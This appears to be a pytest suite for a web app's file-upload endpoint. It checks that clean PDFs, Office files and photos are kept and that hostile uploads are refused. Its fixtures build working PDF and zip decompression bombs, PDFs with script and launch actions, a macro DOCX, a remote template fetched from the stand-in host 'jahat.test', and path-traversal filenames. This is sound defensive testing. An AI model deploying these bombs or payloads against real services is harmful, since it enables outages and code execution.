"""Files as they come in from the world: good ones kept byte for byte, hostile ones refused with a reason, none of them opened in our own process."""

from __future__ import annotations

import io
import time
import zipfile
import zlib
from functools import cache
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from fastapi.testclient import TestClient
from PIL import Image

from db import files
from db.desk import uploads
from tests.web.cast import BUDI, SAME, SARI, sign_in
from web.context import Context
from web.uploads.kinds import safe_name


def pdf(pages: int = 1, change: Any = None, **options: Any) -> bytes:
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page()
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def deflated(head: bytes, block: bytes, times: int) -> bytes:
    """``head`` and so many times ``block``, packed as one stream by packing the block once."""
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    check = zlib.adler32(head)
    for _ in range(times):
        check = zlib.adler32(block, check)
    return b"\x78\xda" + first + again * times + packer.flush() + check.to_bytes(4, "big")


@cache
def bomb() -> bytes:
    """About 1.5 kB that become 600 MB: a stream deflated three times."""
    packed = zlib.compress(zlib.compress(deflated(b"", bytes(1 << 20), 600), 9), 9)

    def add(document: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(document, packed)
        stream.Filter = pikepdf.Array([pikepdf.Name.FlateDecode] * 3)
        document.pages[0].Contents = document.make_indirect(stream)

    return pdf(change=add, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


@cache
def object_stream_bomb() -> bytes:
    """The structure itself is the bomb: an object stream that unpacks to 1.2 GB."""
    body = deflated(b"3 0 4 5 << >> ", b" " * (1 << 20), 1200)
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n")
    places = {}
    for number, text in ((1, b"<</Type/Catalog/Pages 2 0 R>>"), (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>")):
        places[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, text))
    places[5] = out.tell()
    out.write(b"5 0 obj\n<</Type/ObjStm/N 2/First 8/Length %d/Filter/FlateDecode>>\nstream\n%s\nendstream\nendobj\n" % (len(body), body))
    start = out.tell()
    rows = b"".join(
        bytes([kind]) + a.to_bytes(4, "big") + bytes([b])
        for kind, a, b in ((0, 0, 255), (1, places[1], 0), (1, places[2], 0), (2, 5, 0), (2, 5, 1), (1, places[5], 0), (1, start, 0))
    )
    out.write(
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
        % (len(rows), rows, start)
    )
    return out.getvalue()


def with_action(kind: str) -> Any:
    def change(document: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(S=pikepdf.Name(kind))
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 1, 1], A=action)
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(link)])

    return change


def with_root(**entries: Any) -> Any:
    def change(document: pikepdf.Pdf) -> None:
        for key, value in entries.items():
            document.Root[f"/{key}"] = value

    return change


def with_attachment(document: pikepdf.Pdf) -> None:
    document.attachments["muatan.exe"] = b"MZ"


def office(main: str = "word/document.xml", more: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in ({"[Content_Types].xml": b"<Types/>", main: b"<w/>"} | (more or {})).items():
            archive.writestr(name, content)
    return out.getvalue()


def photo(kind: str = "JPEG", size: tuple[int, int] = (40, 30), when: str = "2026:11:26 14:05:09", zone: str = "") -> bytes:
    out = io.BytesIO()
    picture = Image.new("RGB", size, "#0b4f6c")
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "KAMERA-RAHASIA"
    exif.get_ifd(0x8825)[1] = "S"
    exif.get_ifd(0x8825)[2] = (6.0, 10.0, 42.0)
    exif.get_ifd(0x8825)[3] = "E"
    exif.get_ifd(0x8825)[4] = (106.0, 37.0, 54.8)
    exif.get_ifd(0x8769)[0x9003] = when
    exif.get_ifd(0x8769)[0x9011] = zone
    picture.save(out, kind, exif=exif)
    return out.getvalue()


def give(client: TestClient, name: str, content: bytes, **more: str) -> Any:
    return client.post("/unggah", files={"berkas": (name, content)}, data=more, headers=SAME)


@pytest.fixture
def desk(client: TestClient) -> TestClient:
    sign_in(client)
    return client


def test_a_scan_is_kept_byte_for_byte_and_given_back_as_an_attachment(desk: TestClient, context: Context) -> None:
    scan = pdf(3)
    stored = give(desk, "Surat masuk.pdf", scan)
    assert stored.status_code == 201, stored.text
    assert stored.json()["nama"] == "Surat masuk.pdf"
    back = desk.get(f"/unggah/{stored.json()['id']}")
    assert back.content == scan
    assert back.headers["content-disposition"] == "attachment; filename*=UTF-8''Surat%20masuk.pdf"
    assert back.headers["x-content-type-options"] == "nosniff"
    assert back.headers["content-security-policy"] == "sandbox; default-src 'none'"
    sign_in(desk, SARI)
    assert desk.get(f"/unggah/{stored.json()['id']}").status_code == 404, "another person's upload is not found"


def test_the_same_bytes_are_stored_once(desk: TestClient, context: Context) -> None:
    scan = pdf(2)
    for name in ("a.pdf", "b.pdf"):
        assert give(desk, name, scan).status_code == 201
    assert len([path for path in context.files.rglob("*") if path.is_file()]) == 1


REFUSED: dict[str, tuple[str, Any, str]] = {
    "bomb in a page": ("bom.pdf", bomb, "terlalu besar bila dibuka"),
    "bomb in the structure": ("bom.pdf", object_stream_bomb, "unggah lagi"),
    "script": ("s.pdf", lambda: pdf(change=with_root(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))), "tindakan saat dibuka"),
    "script in a name tree": ("s.pdf", lambda: pdf(change=with_root(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[])))), "skrip"),
    "launch": ("s.pdf", lambda: pdf(change=with_action("/Launch")), "menjalankan program"),
    "submit": ("s.pdf", lambda: pdf(change=with_action("/SubmitForm")), "pengiriman formulir"),
    "other file": ("s.pdf", lambda: pdf(change=with_action("/GoToR")), "tautan ke berkas lain"),
    "script action": ("s.pdf", lambda: pdf(change=with_action("/JavaScript")), "skrip"),
    "automatic": ("s.pdf", lambda: pdf(change=with_root(AA=pikepdf.Dictionary())), "tindakan otomatis"),
    "xfa": ("s.pdf", lambda: pdf(change=with_root(AcroForm=pikepdf.Dictionary(XFA="x"))), "XFA"),
    "embedded": ("s.pdf", lambda: pdf(change=with_attachment), "berkas sisipan"),
    "in an object stream": (
        "s.pdf", lambda: pdf(change=with_action("/Launch"), object_stream_mode=pikepdf.ObjectStreamMode.generate), "menjalankan program",
    ),
    "encrypted": ("k.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "terkunci dengan kata sandi"),
    "encrypted for the owner only": ("k.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="")), "terkunci dengan kata sandi"),
    "too long": ("p.pdf", lambda: pdf(301), "301 halaman; paling banyak 300"),
    "cut off": ("p.pdf", lambda: pdf(2)[:120], "rusak"),
    "disguised program": ("surat.pdf", lambda: b"MZ\x90\x00" + bytes(200), "bukan PDF"),
    "a page pretending": ("surat.jpg", lambda: b"<html><script>alert(1)</script>", "bukan JPG"),
    "picture as pdf": ("surat.pdf", photo, "bukan PDF"),
    "two in one": ("surat.pdf", lambda: pdf() + office(), "memuat berkas lain"),
    "program": ("surat.exe", lambda: b"MZ", "tidak diterima"),
    "double name": ("surat.pdf.exe", pdf, "tidak diterima"),
    "no name": ("surat", pdf, "tidak diterima"),
    "svg": ("gambar.svg", lambda: b"<svg onload=x>", "tidak diterima"),
    "empty": ("surat.pdf", bytes, "kosong"),
    "macro": ("m.docx", lambda: office(more={"word/vbaProject.bin": b"x"}), "makro"),
    "ole": ("m.docx", lambda: office(more={"word/embeddings/oleObject1.bin": b"x"}), "berkas sisipan"),
    "remote template": (
        "m.docx",
        lambda: office(more={"word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" Target="http://jahat.test/t.dotm" TargetMode="External"/>'}),
        "dari tempat lain",
    ),
    "zip bomb": ("m.xlsx", lambda: office("xl/workbook.xml", {"xl/media/a.bin": bytes(210 * 1024 * 1024)}), "terlalu besar bila dibuka"),
    "climbing": ("m.xlsx", lambda: office("xl/workbook.xml", {"../../etc": b"x"}), "rusak"),
    "plain zip": ("m.docx", lambda: office("lain.xml"), "bukan DOCX"),
    "word as sheet": ("m.xlsx", office, "bukan XLSX"),
    "huge picture": ("g.png", lambda: photo("PNG", (9000, 9000)), "60 juta"),
    "torn picture": ("g.jpg", lambda: photo()[:300], "rusak"),
}  # fmt: skip


@pytest.mark.parametrize("case", REFUSED)
def test_hostile_files_are_refused_with_the_reason_and_leave_nothing(desk: TestClient, context: Context, case: str) -> None:
    name, make, reason = REFUSED[case]
    content = make()
    started = time.monotonic()
    refused = give(desk, name, content)
    assert refused.status_code == 422, refused.text
    assert reason in refused.json()["kesalahan"]
    assert name in refused.json()["kesalahan"]
    assert not context.files.exists() or not any(path.is_file() for path in context.files.rglob("*"))
    assert time.monotonic() - started < 25


def test_the_bomb_is_as_small_as_the_published_one() -> None:
    assert len(bomb()) < 3000


def test_size_is_refused(desk: TestClient) -> None:
    refused = give(desk, "besar.pdf", b"%PDF-" + bytes(20 * 1024 * 1024))
    assert refused.status_code == 422
    assert "lebih dari 20 MB" in refused.json()["kesalahan"]
    assert give(desk, "besar.pdf", bytes(22 * 1024 * 1024)).status_code == 413


def test_a_photo_always_loses_what_the_camera_wrote(desk: TestClient, context: Context) -> None:
    taken = photo()
    assert b"KAMERA-RAHASIA" in taken
    plain = give(desk, "foto.jpg", taken)
    kept = desk.get(f"/unggah/{plain.json()['id']}").content
    assert b"KAMERA-RAHASIA" not in kept
    with Image.open(io.BytesIO(kept)) as picture:
        assert picture.size == (30, 40), "turned upright"
        assert dict(picture.getexif()) == {}
    assert plain.json()["bukti"] == "", "not asked for: nothing of it is kept beside the file either"


async def _taken(context: Context, upload_id: str) -> Any:
    async with context.desk.connect() as connection:
        return (await uploads.find(connection, BUDI.id, [upload_id]))[upload_id].taken


async def test_evidence_is_kept_beside_the_photo_not_in_it(desk: TestClient, context: Context) -> None:
    proof = give(desk, "bukti.jpg", photo(), bukti="ya").json()
    assert proof["bukti"] == "diambil 26 November 2026 pukul 14.05 di -6,178333; 106,631889"
    assert await _taken(context, proof["id"]) == {
        "taken_at": "2026-11-26T14:05", "place": {"lat": "-6.178333", "lon": "106.631889"}, "told_by": "foto",
    }  # fmt: skip
    assert b"KAMERA-RAHASIA" not in desk.get(f"/unggah/{proof['id']}").content
    abroad = give(desk, "bukti.jpg", photo(zone="+00:00"), bukti="ya").json()
    assert (await _taken(context, abroad["id"]))["taken_at"] == "2026-11-26T21:05", "the city's time"


@pytest.mark.parametrize("when", ["", "0000:00:00 00:00:00", "kemarin"])
async def test_a_camera_that_says_nothing_whole_is_not_believed(desk: TestClient, context: Context, when: str) -> None:
    """Place without time is no evidence; the device that sends it may say where it is, and the moment is ours."""
    alone = give(desk, "bukti.jpg", photo(when=when), bukti="ya").json()
    assert (alone["bukti"], await _taken(context, alone["id"])) == ("tanpa tempat dan waktu", None)
    told = give(desk, "bukti.png", photo("PNG", when=when), bukti="ya", tempat="-6.178306; 106.631889").json()
    found = await _taken(context, told["id"])
    assert (found["told_by"], found["place"]) == ("gawai", {"lat": "-6.178306", "lon": "106.631889"})
    assert told["bukti"].startswith("diunggah ")
    nowhere = give(desk, "bukti.jpg", photo(when=when), bukti="ya", tempat="52.5; 13.4").json()
    assert nowhere["bukti"] == "tanpa tempat dan waktu", "a place outside the country is nobody's evidence here"


@pytest.mark.parametrize(
    ("name", "content"), [("a.docx", office()), ("a.xlsx", office("xl/workbook.xml")), ("a.png", photo("PNG")), ("A.JPEG", photo()), ("a.PDF", pdf())]
)
def test_every_accepted_kind_comes_in(desk: TestClient, name: str, content: bytes) -> None:
    assert give(desk, name, content).status_code == 201


def test_only_the_kinds_a_field_takes(desk: TestClient) -> None:
    refused = give(desk, "foto.jpg", photo(), jenis="pdf")
    assert "Jenis yang diterima: pdf" in refused.json()["kesalahan"]
    assert desk.post("/unggah", data={"jenis": "pdf"}, headers=SAME).json()["kesalahan"] == "Pilih satu berkas."


def test_uploading_needs_a_sign_in(client: TestClient) -> None:
    assert give(client, "a.pdf", pdf()).status_code == 401


def test_a_file_survives_a_refused_form(desk: TestClient) -> None:
    form = "/contoh/formulir"
    refused = desk.post(form, data={"perihal": ""}, files={"pindaian": ("surat.pdf", pdf())}, headers=SAME)
    assert refused.status_code == 422
    assert "surat.pdf" in refused.text
    kept = refused.text.split('name="pindaian" value="')[1].split('"')[0]
    good = {"perihal": "Undangan", "sifat": "biasa", "tanggal_surat": "20-11-2026", "pindaian": kept}
    accepted = desk.post(form, data=good, headers=SAME)
    assert accepted.status_code == 200
    assert "Periksa jawaban Anda" in accepted.text
    assert "surat.pdf" in accepted.text
    bad = desk.post(form, data=good, files={"lampiran": ("virus.exe", b"MZ")}, headers=SAME)
    assert bad.status_code == 422
    assert "virus.exe tidak diterima" in bad.text
    removed = desk.post(form, data=good | {"_hapus": "pindaian.0"}, headers=SAME)
    assert 'name="pindaian" value="' not in removed.text


@pytest.mark.parametrize(
    ("given", "kept"),
    [("C:\\Users\\a\\surat.pdf", "surat.pdf"), ("../../etc/passwd", "passwd"), ("gaji\u202efdp.exe", "gajifdp.exe"), ("a\x00b.pdf", "ab.pdf"), ("", "berkas"), ("..", "berkas"), ('<i>"x".pdf', "_i__x_.pdf")],
)  # fmt: skip
def test_names_are_harmless(given: str, kept: str) -> None:
    assert safe_name(given) == kept


def test_a_long_name_keeps_its_kind() -> None:
    assert safe_name("a" * 300 + ".pdf") == "a" * 116 + ".pdf"
    assert len(safe_name("a." + "b" * 300)) == 120


def test_the_store_builds_no_path_from_foreign_text(tmp_path: Path) -> None:
    for sha in ("../../etc/passwd", "AB" * 32, "", "a" * 63):
        with pytest.raises(ValueError, match="SHA-256"):
            files.path_of(tmp_path, sha)
    sha = files.keep(tmp_path, b"isi")
    assert files.read(tmp_path, sha) == b"isi"
    assert files.keep(tmp_path, b"isi") == sha
    assert [path.name for path in tmp_path.rglob("*") if path.is_file()] == [sha]
